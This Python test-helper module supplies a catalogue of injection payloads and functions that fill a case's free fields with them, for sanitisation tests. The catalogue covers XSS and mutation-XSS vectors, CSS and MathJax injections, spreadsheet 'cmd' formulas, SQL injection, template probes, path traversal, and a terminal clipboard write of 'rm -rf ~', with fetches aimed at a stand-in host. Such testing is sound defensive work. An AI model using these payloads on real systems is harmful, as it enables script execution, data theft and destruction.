"""What somebody may put into a table, a text or an answer so that it runs, leads away, or shows what is not so.

Each is of our own making. One that ran would set ``window.__ran``, open a dialog, or ask `ELSEWHERE` for
something; none of these names leads anywhere. `{name}` in a pattern below becomes the name of the payload,
so that a test can say which it was.
"""

import shutil
from dataclasses import dataclass, fields, replace
from types import SimpleNamespace

from sidebyside import layout, open_case
from sidebyside.model import Case

ELSEWHERE = "https://payload.invalid"
_LONG = 1_000_000


@dataclass(frozen=True)
class Payload:
    """One text and what it tries: ``name`` is unique, ``kind`` one of the keys of `PATTERNS`."""

    name: str
    kind: str
    text: str


_SET = "window.__ran='{name}'"
_ASK = "fetch('https://payload.invalid/{name}')"
PATTERNS = {
    "markup": [
        f"<script>{_SET}</script>",
        f"<SCRIPT >{_ASK}</SCRIPT\t>",
        "<script src=https://payload.invalid/{name}></script>",
        f"<<script>{_SET};//<</script>",
        f"<scr<script>ipt>{_SET}</scr</script>ipt>",
        f"&lt;script&gt;{_SET}&lt;/script&gt;",
        f"&#60;script&#62;{_SET}&#60;/script&#62;",
        "<iframe src='https://payload.invalid/{name}'></iframe>",
        f'<iframe srcdoc="<script>parent.{_SET}</script>"></iframe>',
        "<object data=https://payload.invalid/{name}></object>",
        "<embed src=https://payload.invalid/{name}>",
        "<base href=https://payload.invalid/{name}/>",
        "<meta http-equiv=refresh content='0;url=https://payload.invalid/{name}'>",
        "<link rel=stylesheet href=https://payload.invalid/{name}>",
        "<form action=https://payload.invalid/{name}><button autofocus>Go on</button></form>",
        "<img src=https://payload.invalid/{name}>",
        "<video poster=https://payload.invalid/{name}></video>",
        "<dialog open>Your password?</dialog><marquee>look</marquee>",
        "<custom-element></custom-element><slot name=x>",
    ],
    "events": [
        f"<img src=x onerror={_SET}>",
        f'"><img src=x onerror="{_ASK}">',
        f"' autofocus tabindex=0 onfocus={_SET} x='",
        f'" onmouseover="alert(1)" style="position:fixed;inset:0" x="{_SET}',
        f"<details open ontoggle={_SET}>",
        f"<body onload={_SET}>",
        f"<input autofocus onfocus={_SET}>",
        f"<audio src onloadstart={_SET}>",
        f"<p style=animation:x onanimationstart={_SET}>",
        f"`onclick={_SET}`",
    ],
    "svg": [
        f"<svg onload={_SET}></svg>",
        f"<svg><script>{_SET}</script></svg>",
        "<svg><image href=https://payload.invalid/{name} /></svg>",
        f"<svg><a xlink:href=javascript:{_SET}><text y=20>open</text></a></svg>",
        f"<svg><animate attributeName=href values=javascript:{_SET} begin=0s /></svg>",
        "<svg><use href=https://payload.invalid/{name}#a /></svg>",
        f"</title></desc></text></svg><img src=x onerror={_SET}>",
    ],
    "links": [
        f"javascript:{_SET}",
        f"JaVaScRiPt:{_SET}",
        f"java\tscript:{_SET}",
        f"java\nscript:{_SET}",
        f" \x01javascript:{_SET}",
        f"javascript://example.org/%0a{_SET}",
        f"data:text/html,<script>{_SET}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///C:/Windows/System32/calc.exe",
        "blob:https://payload.invalid/{name}",
        "//payload.invalid/{name}",
        "\\\\payload.invalid\\{name}",
        "https://example.org/\" onclick=\"window.__ran='{name}'",
    ],
    "styles": [
        "</style><style>@import 'https://payload.invalid/{name}';</style>",
        '"; background:url(https://payload.invalid/{name}); content:"',
        f"</style><script>{_SET}</script>",
        "<style>*{{background:url(https://payload.invalid/{name})}}</style>",
        f"expression({_SET})",
        "\\22 ; @import url(https://payload.invalid/{name});",
        "<div style=\"background:url('https://payload.invalid/{name}')\">x</div>",
    ],
    "break-outs": [
        f"</textarea><script>{_SET}</script>",
        f"</title><script>{_SET}</script>",
        f"</option></select><img src=x onerror={_SET}>",
        f"--><script>{_SET}</script><!--",
        f"]]><script>{_SET}</script>",
        f"</script><script>{_SET}</script>",
        f"</td></tr></table><img src=x onerror={_SET}>",
        f"<noscript><p title=\"</noscript><img src=x onerror={_SET}>\">",
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={_SET}&gt;\">",
        f"<template><img src=x onerror={_SET}></template>",
        f"<svg></p><style><a id=\"</style><img src=x onerror={_SET}>\">",
        f"<!--<img src=\"--><img src=x onerror={_SET}>\">",
        "<xmp><plaintext>",
    ],
    "mathematics": [
        f"$\\href{{{{javascript:{_SET}}}}}{{{{open}}}}$",
        f"\\(\\href{{{{javascript:{_SET}}}}}{{{{open}}}}\\)",
        "$$\\href{{data:text/html,x}}{{open}}$$",
        "\\[\\href{{file:///etc/passwd}}{{open}}\\]",
        "\\begin{{equation}}\\href{{vbscript:x}}{{open}}\\end{{equation}}",
        "$\\require{{html}}\\style{{background:url(https://payload.invalid/{name})}}{{x}}$",
        "$\\unicode{{x202e}}\\class{{desk}}{{x}}\\cssId{{jp-main-dock-panel}}{{x}}$",
        "It rose from $5 to $6 a head",
        "$\\def\\x{{\\x\\x}}\\x$",
    ],
    "markdown": [
        f"[open](javascript:{_SET})",
        "![see](https://payload.invalid/{name})",
        f"<https://payload.invalid/{{name}}> <img src=x onerror={_SET}>",
        "[x]: javascript:alert(1)\n\n[x]",
        "# Heading | a | b |\n|---|---|\n``` \n</code>",
    ],
    "terminal": [
        "\x1b[2J\x1b[1;1Hall is well",
        "\x1b]0;another title\x07",
        "\x1b]8;;https://payload.invalid/{name}\x1b\\open\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJmIH4=\x07",
        "\x1bP$q\"p\x1b\\",
        "\x9b31m\x9d0;x\x9c",
        "2 findings\r0 findings",
        "abc\b\b\bxyz\x7f",
        "\x0e\x0f\x05\x00",
    ],
    "direction": [
        "\u202egnp.exe",
        "\u2066\u2067\u2068not so\u2069",
        "\u202d\u202c\u061c\u200e\u200f",
        "one\u2028two\u2029three",
    ],
    "unseen": [
        "no\u200bt\u2060 \ufeffso",
        "".join(chr(0xE0000 + ord(letter)) for letter in "hidden words"),
        "\u0430dmin \u0440\u0430yp\u0430l",
        "a" + "\u0301" * 500,
        "👩‍👩‍👧‍👦 می‌خواهم e\u0301",
        "\ud800 half \udfff",
        "\udcff\udc80",
    ],
    "spreadsheet": [
        "=HYPERLINK(\"https://payload.invalid/{name}\",\"open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\"a\",\"b\"\n=1+1",
    ],
    "data": [
        "\"}}],\"id\":\"0\",\"x\":[{{\"",
        "\\u003cscript\\u003e \\ \\\" '",
        "null", "__proto__", "constructor", "toString", "hasOwnProperty", "prototype.__ran",
        "Robert'); DROP TABLE answers;--",
        "0", "-1", "1e999", "NaN",
    ],
    "templates": [
        "{{folder}} {{learner}}", "{{0.__class__}}", "{{reason.__class__.__mro__}}", "{{", "}}", "%s %(folder)s %n", "{{{{7*7}}}}",
        "${{7*7}} <%= 7*7 %> #{{7*7}}", "$& $1 $` $'", "{{% for x in ().__class__.__base__.__subclasses__() %}}",
    ],
    "names": [
        "../../../outside", "..\\..\\outside", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\host\\share", "NUL", "con.txt", "LPT1",
        "aux .x", "file.txt:stream", "name. ", "~/.bashrc", "a\x00.txt", "x" * 300,
    ],
    "long": [
        "x" * _LONG,
        "<b>" * (_LONG // 3),
        "\u202e" * 20_000 + "word " * 150_000,
        "(" * 20_000 + "$\\href{{" * 1000,
    ],
}  # fmt: skip


def _made():
    for kind, patterns in PATTERNS.items():
        for number, pattern in enumerate(patterns, start=1):
            name = f"{kind}-{number}"
            yield Payload(name, kind, pattern.format(name=name))


PAYLOADS = tuple(_made())
SHORT = tuple(payload for payload in PAYLOADS if payload.kind != "long")


def filled(value, text, keep=frozenset()):
    """The same structure with every string in it replaced by a text, but for what stands under the keys to keep.

    Parameters
    ----------
    value : dict, list, str or other
    text : str
    keep : set of str
        Keys on which a structure hangs together, such as ids.
    """
    if isinstance(value, str):
        return text
    if isinstance(value, dict):
        return {key: one if key in keep else filled(one, text, keep) for key, one in value.items()}
    if isinstance(value, list | tuple):
        return [filled(one, text, keep) for one in value]
    return value


# chosen from closed lists, or of a form that is computed with; every other text of a case is free
BOUND = {
    "relation",
    "method",
    "kind",
    "step",
    "written",
    "role",
    "seen",
    "date",
    "bearing",
    "read_by",
    "start",
    "end",
    "notebook",
}


def spoilt(case, text):
    """The case with a text in every free column, and no check passed; a text may be a function that makes one."""

    def row_of(row):
        free = [
            part.name
            for part in fields(row)
            if isinstance(getattr(row, part.name), str) and part.name not in BOUND and not part.name.endswith("_id")
        ]
        return replace(row, **{name: text() if callable(text) else text for name in free})

    return Case("", {table: tuple(map(row_of, rows)) for table, rows in case.tables.items()})


def sample_case(root, folder):
    """The sample case in a folder of its own: ``case``, ``folder``, and its one ``desk`` as plain data."""
    shutil.copytree(root / "tests/sample", folder)
    shutil.copy(root / "data/datapackage.json", folder)
    case = open_case(folder)
    return SimpleNamespace(case=case, folder=folder, desk=layout.of_lesson(case, "00"))


def of(kind):
    """The payloads of a kind."""
    return [payload for payload in PAYLOADS if payload.kind == kind]


def strings(value):
    """How many strings a structure holds."""
    parts = value.values() if isinstance(value, dict) else value if isinstance(value, list | tuple) else ()
    return isinstance(value, str) + sum(map(strings, parts))
